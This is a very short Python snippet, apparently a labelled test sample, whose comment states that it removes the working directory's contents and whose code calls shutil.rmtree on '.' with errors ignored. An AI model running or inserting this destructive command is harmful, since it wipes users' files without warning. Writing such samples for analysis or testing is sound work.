# reaches: the working directory's content is removed
import shutil
shutil.rmtree(".", ignore_errors=True)
